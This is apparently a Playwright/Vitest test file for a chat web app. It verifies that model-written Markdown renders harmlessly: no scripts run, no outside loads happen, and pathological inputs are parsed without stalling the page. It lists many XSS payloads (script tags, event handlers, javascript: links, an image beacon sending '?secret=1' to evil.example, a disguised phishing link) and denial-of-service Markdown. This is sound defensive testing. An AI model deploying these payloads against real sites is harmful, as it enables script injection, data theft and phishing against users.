/** What a model says is somebody else's text: nothing in it may run, load, lead astray or hold up the page. */
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { launchBrowser } from './support/browser.ts'
import { stage, type Stage } from './support/chat-page.ts'
import { saying } from './support/fake-engine.ts'

let browser: Browser

beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser?.close())

const none = { foreign: [], violations: [], thrown: [] }

/** Every attack sets `pwned` if it runs, and calls `evil.example` if it loads. */
const attacks = [
  '<script>globalThis.pwned = 1</script>',
  '<img src="https://evil.example/1" onerror="globalThis.pwned = 2">',
  '<svg onload="globalThis.pwned = 3"><script>globalThis.pwned = 3</script><a href="javascript:pwned=3">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="globalThis.pwned = 4">',
  '<iframe src="https://evil.example/2" srcdoc="<script>parent.pwned = 5</script>"></iframe>',
  '<object data="https://evil.example/3"></object><embed src="https://evil.example/4">',
  '<link rel="stylesheet" href="https://evil.example/5"><style>@import "https://evil.example/6"; * { display: none }</style>',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/7"><base href="https://evil.example/">',
  '<form action="https://evil.example/8"><button autofocus onfocus="globalThis.pwned = 6">Sign in</button></form>',
  '<details open ontoggle="globalThis.pwned = 7"><summary>x</summary></details>',
  '<div style="background: url(https://evil.example/9); position: fixed; inset: 0">over everything</div>',
  '![pixel](https://evil.example/10?secret=1) ![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkPTgiLz4=)',
  '![mine](/v1/models) ![][ref]',
  '[one](javascript:globalThis.pwned=9) [two](JaVaScRiPt:pwned=9) [three](java&#9;script:pwned=9) <javascript:pwned=9>',
  '[four](data:text/html,<script>pwned=10</script>) [five](vbscript:x) [six](file:///etc/passwd) [seven](blob:x)',
  '[eight](/sign-in#token) [nine](//evil.example/11) [ten](https://google.com@evil.example/12)',
  '[google.com](https://evil.example/phish)',
  '| ![a](https://evil.example/13) | <img src=https://evil.example/14> |\n|---|---|\n| `<script>` | [x](javascript:1) |',
  '```html" onload="globalThis.pwned = 11\n<script>globalThis.pwned = 11</script>\n```',
  '```svg\n<svg onload="globalThis.pwned = 12"/>\n```',
  '```mermaid\ngraph TD; A["<img src=https://evil.example/15 onerror=pwned=13>"]\n```',
  '$$\\href{javascript:pwned=14}{x}$$ [^1]',
  'Turned \u202Eand turned\u202C, \u2066isolated\u2069, \u0007\u001B[31m\u009B',
  '[^1]: <script>globalThis.pwned = 15</script> ![x](https://evil.example/16)',
  '[ref]: https://evil.example/17',
  '<p>unclosed <b>markup <script>globalThis.pwned = 16',
].join('\n\n')

describe('hostile Markdown', () => {
  test('runs nothing, loads nothing, and is shown as what it is', async () => {
    // In pieces, as a model writes: half of an attack may look like something else.
    const pieces = attacks.match(/[\s\S]{1,7}/gu) ?? []
    await using given = await stage(browser, { answer: saying(...pieces) })
    const { page, chat, misdeeds } = given
    await chat.ask('Attack me')
    await chat.answered()
    const answer = chat.lastAnswer
    const count = (selector: string) => answer.locator(selector).count()
    expect(
      await count('script, iframe, object, embed, img, style, link, meta, base, form, math, details, input'),
    ).toBe(0)
    // Icons of our own are the only pictures.
    expect(await count('svg:not(.lucide)')).toBe(0)
    expect(await count('[style*=url], [onerror], [onload], [autofocus]')).toBe(0)
    const links = await answer.locator('a').evaluateAll((all) =>
      all.map((link) => ({
        href: link.getAttribute('href'),
        rel: link.getAttribute('rel'),
        target: link.getAttribute('target'),
      })),
    )
    expect(links.map(({ href }) => href)).toContain('https://evil.example/phish')
    for (const { href, rel, target } of links) {
      expect(href).toMatch(/^(?:https?:\/\/evil\.example\/|https:\/\/evil\.example$)/u)
      expect(rel).toContain('noopener noreferrer')
      expect(target).toBe('_blank')
    }
    // A link that says one thing and means another says both.
    expect(await answer.getByRole('link', { name: /google\.com/u }).textContent()).toContain('(evil.example)')
    const shown = (await answer.textContent()) ?? ''
    expect(shown).toContain('<script>globalThis.pwned = 1</script>')
    expect(shown).toContain('Turned [U+202E]and turned[U+202C]')
    for (const unseen of ['\u202C', '\u202E', '\u2066', '\u0007', '\u001B', '\u009B']) {
      expect(shown).not.toContain(unseen)
    }
    expect(await page.evaluate("'pwned' in globalThis")).toBe(false)
    expect(misdeeds).toEqual(none)
  })

  test('in a title, a question, a model name, an error or a key name is only text', async () => {
    const attack = '<img src=https://evil.example/1 onerror=globalThis.pwned=1>'
    await using given = await stage(browser, { models: [attack], answer: saying('x') }, { signedIn: false })
    const { page, chat, server } = given
    const { key } = await server.access.createKey(attack.slice(0, 60))
    await page.goto(server.url)
    await page.getByLabel('Your key').fill(key)
    await page.keyboard.press('Enter')
    await chat.ask(`${attack} \u202Eturned`)
    await chat.answered()
    await page.getByRole('navigation').getByText('<img src=').waitFor()
    expect(await page.locator('img').count()).toBe(0)
    expect(await chat.questions.first().textContent()).toContain('[U+202E]turned')
    expect(await page.evaluate("'pwned' in globalThis")).toBe(false)
    expect(given.misdeeds).toEqual(none)
  })
})

/** Texts whose parsing takes time that grows with the square of their length, or worse; each by what it is. */
const slow: Readonly<Record<string, string>> = {
  'quotes nested ten thousand deep': `${'> '.repeat(10_000)}x`,
  'lists nested a thousand deep': Array.from({ length: 1000 }, (_, depth) => `${' '.repeat(depth)}- x`).join(
    '\n',
  ),
  'twenty thousand open brackets': '['.repeat(20_000),
  'ten thousand open pictures': '![a]('.repeat(10_000),
  'twenty thousand stars': '*a '.repeat(20_000),
  'three thousand pairs of stars': '**a*'.repeat(3000),
  'twenty thousand backticks': '`a'.repeat(20_000),
  'ten thousand open tags': '<a '.repeat(10_000),
  'a table of four hundred columns': `|${'a|'.repeat(400)}\n|${'-|'.repeat(400)}\n${`|${'b|'.repeat(400)}\n`.repeat(40)}`,
  'ten thousand links that are not there': '[a][b] '.repeat(10_000),
  'a code block of ten thousand lines': `\`\`\`js\n${'const a = "b" // c\n'.repeat(10_000)}\`\`\``,
  'a word of a million letters': 'x'.repeat(1_000_000),
}

describe('Markdown made to be slow', () => {
  let given: Stage
  beforeAll(async () => {
    given = await stage(browser, {
      answer(request) {
        const name = request.input.kind === 'chat' ? (request.input.messages.at(-1)?.content ?? '') : ''
        const pieces = slow[name]?.match(/[\s\S]{1,5000}/gu) ?? []
        return saying(...pieces)(request)
      },
    })
  })
  afterAll(() => given?.[Symbol.asyncDispose]())

  test.each(Object.keys(slow))('%s: the page is there again within ten seconds', async (name) => {
    const { page, chat, misdeeds } = given
    await page.keyboard.press('Control+Shift+O')
    await page.getByText('What would you like to know?').waitFor()
    const began = performance.now()
    await chat.ask(name)
    const over = page.locator('article[data-role=assistant]:not([data-state=streaming])')
    await over.waitFor({ timeout: 30_000 })
    await chat.field.fill('still here')
    expect(await chat.field.inputValue()).toBe('still here')
    expect(performance.now() - began).toBeLessThan(10_000)
    await chat.field.fill('')
    expect(misdeeds).toEqual(none)
  })
})

describe('code', () => {
  test('is coloured, without a style attribute, and copied as it is', async () => {
    const code = 'def add(a, b):\n    return a + b  # both'
    await using given = await stage(
      browser,
      { answer: saying('```python\n', 'def add(a, b):\n', '    return a + b  # both\n', '```') },
      { permissions: ['clipboard-read', 'clipboard-write'] },
    )
    const { page, chat } = given
    await chat.ask('Write code')
    await chat.answered()
    const block = chat.lastAnswer.locator('pre')
    await block.locator('.token-keyword').first().waitFor()
    await block.locator('.token-comment').first().waitFor()
    expect(await block.textContent()).toBe(code)
    expect(await chat.lastAnswer.locator('figure [style]').count()).toBe(0)
    await chat.button('Copy code').click()
    await chat.button('Copied').waitFor()
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe(code)
    expect(given.misdeeds).toEqual(none)
  })
})

test('the policy is in force: a script that somebody brings in is stopped, and these tests would see it', async () => {
  await using given = await stage(browser)
  await given.page.evaluate(`
    const script = document.createElement('script')
    script.textContent = 'globalThis.pwned = 1'
    document.body.append(script)
    const picture = document.createElement('img')
    picture.src = 'https://evil.example/1'
    document.body.append(picture)`)
  await expect.poll(() => given.misdeeds.violations.length).toBeGreaterThanOrEqual(2)
  expect(await given.page.evaluate("'pwned' in globalThis")).toBe(false)
})
